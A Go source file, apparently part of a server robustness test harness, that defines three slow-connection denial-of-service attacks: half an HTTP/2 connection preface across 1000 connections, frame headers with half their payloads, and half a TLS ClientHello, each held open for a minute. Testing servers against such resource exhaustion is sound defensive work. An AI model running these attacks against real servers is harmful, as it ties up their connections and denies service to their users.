package main

import (
	"context"
	"time"

	"golang.org/x/net/http2"
)

// partialPreface says the beginning of the preface, and no more.
var partialPreface = &attack{
	name: "partial-preface", what: "half a connection preface, by the thousand", conns: 1000, over: overRaw,
	run: func(ctx context.Context, e *enemy) error {
		_, _ = e.w.WriteString(http2.ClientPreface[:12])
		return e.wait(ctx, time.Minute)
	},
}

// partialFrames announces frames whose payloads do not come.
var partialFrames = &attack{
	name: "partial-frames", what: "the header of a frame, and half of its payload", conns: 500, over: overH2C,
	run: func(ctx context.Context, e *enemy) error {
		if err := e.header(16384, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1); err != nil {
			return err
		}
		_, _ = e.w.Write(make([]byte, 8000))
		return e.wait(ctx, time.Minute)
	},
}

// partialRecords sends half a ClientHello.
var partialRecords = &attack{
	name: "partial-records", what: "the header of a TLS record, and half of it", conns: 500, over: overRawTLS,
	run: func(ctx context.Context, e *enemy) error {
		_, _ = e.w.Write([]byte{0x16, 3, 1, 2, 0, 1, 0, 1, 252})
		_, _ = e.w.Write(make([]byte, 200))
		return e.wait(ctx, time.Minute)
	},
}
